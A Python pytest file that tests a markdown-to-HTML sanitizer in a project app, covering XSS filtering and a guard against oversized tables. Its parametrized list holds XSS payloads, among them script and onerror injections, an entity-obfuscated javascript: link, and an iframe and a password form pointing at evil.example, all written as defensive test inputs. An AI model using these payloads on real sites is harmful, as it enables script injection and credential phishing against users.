import pytest

from apps.projects.markdown import html_of


def test_markdown_becomes_html():
    assert html_of("# Rules\n\n- **fix** it") == "<h1>Rules</h1>\n<ul>\n<li><strong>fix</strong> it</li>\n</ul>\n"


@pytest.mark.parametrize(
    "bomb",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<style>body{display:none}</style>",
        "<iframe src='//evil.example'></iframe>",
        "<form action='//evil.example'><input name=password></form>",
        '<p style="position:fixed" onclick="x()">hi</p>',
        "<svg><script>alert(1)</script></svg>",
    ],
)
def test_nothing_that_runs_or_asks_gets_through(bomb):
    html = html_of(bomb)
    assert not any(
        word in html
        for word in ("<script", "onerror", 'href="java', "<style", "<iframe", "<form", "<input", "onclick", "style=")
    )


TABLE = "a|" * 300 + "\n" + "-|" * 300 + "\n" + "x\n" * 220 + "\n"


def test_tables_that_many_cells_would_be_made_for_stay_text():
    """Twelve of them, 20 kB, would be 800,000 cells: each row is filled up to the width of the header."""
    assert "<table>" not in html_of(TABLE * 12)
    assert len(html_of(TABLE * 12)) < 2 * len(TABLE * 12)


def test_tables_of_a_size_that_people_write_are_shown():
    rows = "| step | what to do |\n|---|---|\n" + "| 1 | look |\n" * 500
    assert html_of(rows + "\n" + TABLE + "\n" + rows.replace("look", "see")).count("<table>") == 1
    assert html_of(f"{rows}\n\n{rows}").count("<table>") == 2


def test_a_table_that_ends_a_paragraph_is_still_one():
    assert "<table>" in html_of("as follows:\n|a|b|\n|-|-|\n|1|2|")
